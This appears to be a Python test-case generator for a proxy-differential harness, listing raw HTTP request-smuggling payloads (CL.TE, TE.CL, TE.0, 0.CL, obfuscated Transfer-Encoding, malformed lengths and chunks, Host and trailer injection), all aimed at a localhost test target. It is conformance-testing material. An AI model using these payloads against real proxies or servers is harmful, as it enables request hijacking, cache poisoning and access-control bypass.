"""What is sent to make a proxy and its provider see different requests.

From RFC 9112 11.2, PortSwigger's lists, Kettle's "HTTP Desync Attacks" (2019), "HTTP/2: The Sequel"
(2021), "Browser-Powered" (2022) and "HTTP/1.1 Must Die" (2025: 0.CL, TE.0, Expect), and the findings of
the HTTP Garden. Each is (group, name, bytes); `~~` in the bytes is the case's own path, and a request for
`/raw/smuggled` stands where one reading of the bytes would find it and the right one does not."""

SMUGGLED = b"GET /raw/smuggled HTTP/1.1\r\nHost: x.localhost\r\nX-Ignore: "
INNER = b"GET /raw/smuggled HTTP/1.1\r\nHost: x.localhost\r\n\r\n"


def post(*lines, body=b"", target=b"~~", version=b"HTTP/1.1", host=b"Host: x.localhost\r\n"):
    head = b"".join(line + b"\r\n" for line in lines)
    return b"POST " + target + b" " + version + b"\r\n" + host + head + b"\r\n" + body


def get(*lines, target=b"~~", version=b"HTTP/1.1", host=b"Host: x.localhost\r\n"):
    head = b"".join(line + b"\r\n" for line in lines)
    return b"GET " + target + b" " + version + b"\r\n" + host + head + b"\r\n"


def length(body):
    return b"Content-Length: %d" % len(body)


ENDED = b"0\r\n\r\n" + SMUGGLED
TE = b"Transfer-Encoding: chunked"


def cl_te():
    yield "CL.TE", post(length(ENDED), TE, body=ENDED)
    yield "TE before CL", post(TE, length(ENDED), body=ENDED)
    yield "TE.CL", post(b"Content-Length: 4", TE, body=b"%x\r\n" % len(INNER) + INNER + b"\r\n0\r\n\r\n")
    yield "CL 0 with TE", post(b"Content-Length: 0", TE, body=ENDED)
    yield "TE.0: OPTIONS with TE", b"OPTIONS ~~ HTTP/1.1\r\nHost: x.localhost\r\n" + TE + b"\r\n\r\n" + b"%x\r\n" % len(INNER) + INNER + b"\r\n0\r\n\r\n"
    yield "0.CL: GET with a length", get(length(INNER)) + INNER
    yield "0.CL: GET with a length, on a new line", b"\r\n" + get(length(INNER)) + INNER
    yield "CL.0: a length that some ignore", post(length(INNER), body=INNER)
    yield "HEAD with a length", b"HEAD ~~ HTTP/1.1\r\nHost: x.localhost\r\n" + length(INNER) + b"\r\n\r\n" + INNER
    yield "HTTP/1.0 with TE", post(TE, body=ENDED, version=b"HTTP/1.0")
    yield "HTTP/1.0 with TE and CL", post(length(ENDED), TE, body=ENDED, version=b"HTTP/1.0")


CODINGS = {
    "xchunked": b"Transfer-Encoding: xchunked",
    "space before the colon": b"Transfer-Encoding : chunked",
    "tab before the colon": b"Transfer-Encoding\t: chunked",
    "tab after the colon": b"Transfer-Encoding:\tchunked",
    "two spaces after the colon": b"Transfer-Encoding:  chunked",
    "no space after the colon": b"Transfer-Encoding:chunked",
    "space before the name": b" Transfer-Encoding: chunked",
    "tab before the name": b"\tTransfer-Encoding: chunked",
    "vertical tab in the value": b"Transfer-Encoding: \x0bchunked",
    "form feed in the value": b"Transfer-Encoding: \x0cchunked",
    "NUL in the value": b"Transfer-Encoding: chunked\x00",
    "NUL in the name": b"Transfer-Encoding\x00: chunked",
    "bare CR in the value": b"Transfer-Encoding: chunked\rx: y",
    "bare CR before the value": b"Transfer-Encoding: \rchunked",
    "bare LF in front": b"X: y\nTransfer-Encoding: chunked",
    "folded": b"Transfer-Encoding:\r\n chunked",
    "folded by a tab": b"Transfer-Encoding:\r\n\tchunked",
    "quoted": b'Transfer-Encoding: "chunked"',
    "single quotes": b"Transfer-Encoding: 'chunked'",
    "identity": b"Transfer-Encoding: identity",
    "empty": b"Transfer-Encoding:",
    "chunked, identity": b"Transfer-Encoding: chunked, identity",
    "identity, chunked": b"Transfer-Encoding: identity, chunked",
    "gzip, chunked": b"Transfer-Encoding: gzip, chunked",
    "chunked, chunked": b"Transfer-Encoding: chunked, chunked",
    "comma in front": b"Transfer-Encoding: , chunked",
    "comma behind": b"Transfer-Encoding: chunked,",
    "parameter": b"Transfer-Encoding: chunked;q=1",
    "capitals": b"Transfer-Encoding: CHUNKED",
    "twice": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "twice, then x": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    "twice, x first": b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
    "twice, identity first": b"Transfer-encoding: identity\r\nTransfer-Encoding: chunked",
    "underscore": b"Transfer_Encoding: chunked",
    "in quotes of another header": b'X: "\r\nTransfer-Encoding: chunked\r\nY: "',
    "named in Connection": b"Connection: transfer-encoding\r\nTransfer-Encoding: chunked",
    "high byte": b"Transfer-Encoding: \xffchunked",
    "dotless i and long s": "Tranſfer-Encoding: chunked".encode(),
}


def te_te():
    for name, line in CODINGS.items():
        yield f"TE {name}, with CL", post(length(ENDED), line, body=ENDED)
    for name in ("identity, chunked", "gzip, chunked", "chunked, chunked", "twice", "twice, x first"):
        yield f"TE {name}, alone", post(CODINGS[name], body=ENDED[:5])


LENGTHS = {
    "twice, different": (b"Content-Length: 6\r\nContent-Length: 5", b"hello!"),
    "twice, the same": (b"Content-Length: 5\r\nContent-Length: 5", b"hello"),
    "list, the same": (b"Content-Length: 5, 5", b"hello"),
    "list, different": (b"Content-Length: 5, 6", b"hello!"),
    "plus": (b"Content-Length: +5", b"hello"),
    "minus": (b"Content-Length: -5", b""),
    "hexadecimal": (b"Content-Length: 0x5", b"hello"),
    "letters": (b"Content-Length: 5a", b"hello"),
    "inner space": (b"Content-Length: 5 5", b"hello"),
    "leading zeros": (b"Content-Length: 0005", b"hello"),
    "octal": (b"Content-Length: 010", b"hellohello"),
    "underscore": (b"Content-Length: 1_0", b"hellohello"),
    "fraction": (b"Content-Length: 5.0", b"hello"),
    "exponent": (b"Content-Length: 1e1", b"hellohello"),
    "empty": (b"Content-Length:", b""),
    "comma": (b"Content-Length: 5,", b"hello"),
    "2^64 + 5": (b"Content-Length: 18446744073709551621", b"hello"),
    "2^63": (b"Content-Length: 9223372036854775808", b"hello"),
    "space before the colon": (b"Content-Length : 5", b"hello"),
    "folded": (b"Content-Length:\r\n 5", b"hello"),
    "NUL": (b"Content-Length: 5\x00", b"hello"),
    "bare CR": (b"Content-Length: 5\r6", b"hello"),
    "underscore in the name": (b"Content_Length: 5", b""),
    "named in Connection": (b"Connection: content-length\r\nContent-Length: 5", b"hello"),
}


def lengths():
    for name, (line, body) in LENGTHS.items():
        yield f"CL {name}", post(line, body=body)


CHUNKS = {
    "size of 2^64 + 5": b"10000000000000005\r\nhello\r\n0\r\n\r\n",
    "size of 2^64 - 1": b"ffffffffffffffff\r\nhello\r\n0\r\n\r\n",
    "minus": b"-5\r\nhello\r\n0\r\n\r\n",
    "plus": b"+5\r\nhello\r\n0\r\n\r\n",
    "0x": b"0x5\r\nhello\r\n0\r\n\r\n",
    "underscore": b"0_5\r\nhello\r\n0\r\n\r\n",
    "space in front": b" 5\r\nhello\r\n0\r\n\r\n",
    "space behind": b"5 \r\nhello\r\n0\r\n\r\n",
    "leading zeros": b"0" * 200 + b"5\r\nhello\r\n0\r\n\r\n",
    "empty size": b"\r\nhello\r\n0\r\n\r\n",
    "semicolon alone": b";\r\nhello\r\n0\r\n\r\n",
    "letters": b"5g\r\nhello\r\n0\r\n\r\n",
    "NUL": b"5\x00\r\nhello\r\n0\r\n\r\n",
    "LF after the size": b"5\nhello\r\n0\r\n\r\n",
    "CR after the size": b"5\rhello\r\n0\r\n\r\n",
    "LF after the data": b"5\r\nhello\n0\r\n\r\n",
    "nothing after the data": b"5\r\nhello0\r\n\r\n",
    "two bytes instead of CRLF": b"5\r\nhelloXX0\r\n\r\n",
    "spill: longer than its size": b"3\r\nhello\r\n0\r\n\r\n",
    "extension": b"5;a=b\r\nhello\r\n0\r\n\r\n",
    "extension, quoted": b'5;a="b\\"c"\r\nhello\r\n0\r\n\r\n',
    "TERM.EXT: LF in an extension": b"5;a\nhello\r\n0\r\n\r\n",
    "EXT.TERM: LF in an extension, a request behind": b"2;\nxx\r\n%x\r\n" % len(INNER) + INNER + b"\r\n0\r\n\r\n",
    "CR in an extension": b"5;a\rb\r\nhello\r\n0\r\n\r\n",
    "extension in the last chunk": b"5\r\nhello\r\n0;a=b\r\n\r\n",
    "extensions of 64 KiB": b"5;" + b"a" * 65536 + b"\r\nhello\r\n0\r\n\r\n",
    "trailer": b"5\r\nhello\r\n0\r\nX-Sum: 1\r\n\r\n",
    "trailer Content-Length": b"5\r\nhello\r\n0\r\nContent-Length: 50\r\n\r\n",
    "trailer Transfer-Encoding": b"5\r\nhello\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n",
    "trailer Host": b"5\r\nhello\r\n0\r\nHost: evil\r\n\r\n",
    "trailer Authorization": b"5\r\nhello\r\n0\r\nAuthorization: Bearer evil\r\n\r\n",
    "trailer without a colon": b"5\r\nhello\r\n0\r\nGET /raw/smuggled HTTP/1.1\r\n\r\n",
    "trailer folded": b"5\r\nhello\r\n0\r\nX: 1\r\n 2\r\n\r\n",
    "trailers of 64 KiB": b"5\r\nhello\r\n0\r\n" + b"X: " + b"a" * 65536 + b"\r\n\r\n",
    "10,000 trailers": b"5\r\nhello\r\n0\r\n" + b"X: 1\r\n" * 10_000 + b"\r\n",
    "LF ends the trailers": b"5\r\nhello\r\n0\r\n\n",
    "CR ends the trailers": b"5\r\nhello\r\n0\r\n\rX",
    "last chunk 00": b"5\r\nhello\r\n00\r\n\r\n",
    "ends without a last chunk": b"5\r\nhello\r\n\r\n\r\n",
}


def chunks():
    for name, body in CHUNKS.items():
        yield f"chunk {name}", post(TE, body=body)


def lines():
    yield "LF only", get().replace(b"\r\n", b"\n")
    yield "LF after the request line", get().replace(b"\r\n", b"\n", 1)
    yield "CR only", get().replace(b"\r\n", b"\r")
    yield "bare CR in a value", get(b"X: a\rb")
    yield "bare CR ends a line", get(b"X: a\rContent-Length: 44")
    yield "LF CR", get(b"X: a\n\rY: b")
    yield "NUL in a value", get(b"X: a\x00b")
    yield "NUL in a name", get(b"X\x00: a")
    yield "folded line", get(b"X: a\r\n b")
    yield "folded line of spaces", get(b"X: a\r\n \r\nY: b")
    yield "first line folded", b"GET ~~ HTTP/1.1\r\n X: y\r\nHost: x.localhost\r\n\r\n"
    yield "space before the colon", get(b"X : a")
    yield "tab before the colon", get(b"X\t: a")
    yield "space in a name", get(b"X Y: a")
    yield "empty name", get(b": a")
    yield "no colon", get(b"GET /raw/smuggled HTTP/1.1")
    yield "brackets in a name", get(b"X[]: a")
    yield "high bytes in a name", get(b"X\xc3\xa9: a")
    yield "high bytes in a value", get(b"X: \xc3\xa9")
    yield "control byte in a value", get(b"X: a\x01b")
    yield "DEL in a value", get(b"X: a\x7fb")
    yield "empty lines in front", b"\r\n\r\n" + get()
    yield "LF in front", b"\n" + get()
    yield "space in front", b" " + get()


def targets():
    yield "two spaces after the method", get().replace(b"GET ", b"GET  ")
    yield "tab after the method", get().replace(b"GET ", b"GET\t")
    yield "two spaces before the version", get(target=b"~~ ")
    yield "space in the path", get(target=b"~~ /x")
    yield "CR and LF encoded in the path", get(target=b"~~%20HTTP/1.1%0d%0aX:y")
    yield "HTTP/0.9", b"GET ~~\r\n"
    yield "no version", b"GET ~~ \r\nHost: x.localhost\r\n\r\n"
    yield "HTTP/1.2", get(version=b"HTTP/1.2")
    yield "HTTP/2.0 in a line", get(version=b"HTTP/2.0")
    yield "HTTP/1.10", get(version=b"HTTP/1.10")
    yield "http/1.1", get(version=b"http/1.1")
    yield "HTTP/01.1", get(version=b"HTTP/01.1")
    yield "method with a colon", get().replace(b"GET ", b"GET: ")
    yield "lower-case method", get().replace(b"GET ", b"get ")
    yield "high bytes in the path", get(target=b"~~\xff")
    yield "NUL in the path", get(target=b"~~\x00")
    yield "backslash in the path", get(target=b"~~\\..\\x")
    yield "fragment in the path", get(target=b"~~#x")
    yield "double slash", get(target=b"/~~")
    yield "dots", get(target=b"/raw/../~~")
    yield "asterisk", b"OPTIONS * HTTP/1.1\r\nHost: x.localhost\r\n\r\n"
    yield "no slash", get(target=b"x~~")
    yield "CONNECT", b"CONNECT x:443 HTTP/1.1\r\nHost: x:443\r\n\r\n"
    yield "CONNECT with a path", b"CONNECT ~~ HTTP/1.1\r\nHost: x.localhost\r\n\r\n"
    yield "TRACE", b"TRACE ~~ HTTP/1.1\r\nHost: x.localhost\r\n\r\n"
    yield "path of 100 KiB", get(target=b"~~" + b"a" * 100_000)


def hosts():
    yield "no Host", get(host=b"")
    yield "no Host in HTTP/1.0", get(host=b"", version=b"HTTP/1.0")
    yield "Host twice", get(b"Host: evil")
    yield "Host twice, the same", get(b"Host: x.localhost")
    yield "Host empty", get(host=b"Host:\r\n")
    yield "Host with a space before the colon", get(host=b"Host : x\r\n")
    yield "Host with a path", get(host=b"Host: x/y\r\n")
    yield "Host with a user", get(host=b"Host: a@x\r\n")
    yield "Host of two", get(host=b"Host: x, evil\r\n")
    yield "Host with a space", get(host=b"Host: x evil\r\n")
    yield "Host with a bad port", get(host=b"Host: x:99x\r\n")
    yield "Host folded", get(host=b"Host: x.localhost\r\n evil\r\n")
    yield "absolute form", get(target=b"http://x.localhost~~")
    yield "absolute form, another authority", get(target=b"http://evil~~")
    yield "absolute form, no Host", get(target=b"http://x.localhost~~", host=b"")
    yield "absolute form, another scheme", get(target=b"ftp://x~~")
    yield "absolute form with a user", get(target=b"http://a:b@x~~")


def others():
    yield "Expect", post(b"Expect: 100-continue", length(b"hello"), body=b"hello")
    yield "Expect obfuscated", post(b"Expect: y 100-continue", length(INNER), body=INNER)
    yield "Expect folded", post(b"Expect:\r\n 100-continue", length(INNER), body=INNER)
    yield "Expect on a GET with a length", get(b"Expect: 100-continue", length(INNER)) + INNER
    yield "Expect twice", post(b"Expect: 100-continue", b"Expect: x", length(b"hello"), body=b"hello")
    yield "Expect with TE", post(b"Expect: 100-continue", TE, body=b"5\r\nhello\r\n0\r\n\r\n")
    yield "h2c upgrade", get(b"Connection: Upgrade, HTTP2-Settings", b"Upgrade: h2c", b"HTTP2-Settings: AAMAAABkAAQAAP__")
    yield "h2c upgrade without settings in Connection", get(b"Connection: Upgrade", b"Upgrade: h2c", b"HTTP2-Settings: AAMAAABkAAQAAP__")
    yield "upgrade with a body", post(b"Connection: Upgrade", b"Upgrade: websocket", length(INNER), body=INNER)
    yield "upgrade with chunks", post(b"Connection: Upgrade", b"Upgrade: websocket", TE, body=b"5\r\nhello\r\n0\r\n\r\n")
    yield "upgrade that is not taken", get(b"Connection: Upgrade", b"Upgrade: websocket", b"Sec-WebSocket-Version: 777")
    yield "Connection names Host", get(b"Connection: close, host")
    yield "Connection names Authorization", get(b"Connection: authorization", b"Authorization: Bearer x")
    yield "Keep-Alive", get(b"Connection: keep-alive", b"Keep-Alive: timeout=5\r\nProxy-Connection: keep-alive")
    yield "chunked without a body and more", post(TE, body=b"0\r\n\r\n")


GROUPS = [
    ("Length and coding together", cl_te), ("Transfer-Encoding disguised", te_te),
    ("Content-Length malformed", lengths), ("Chunks", chunks), ("Lines and header names", lines),
    ("Request lines", targets), ("Host and authority", hosts), ("Expect, Upgrade, Connection", others),
]


def cases():
    for group, each in GROUPS:
        for name, data in each():
            yield group, name, data
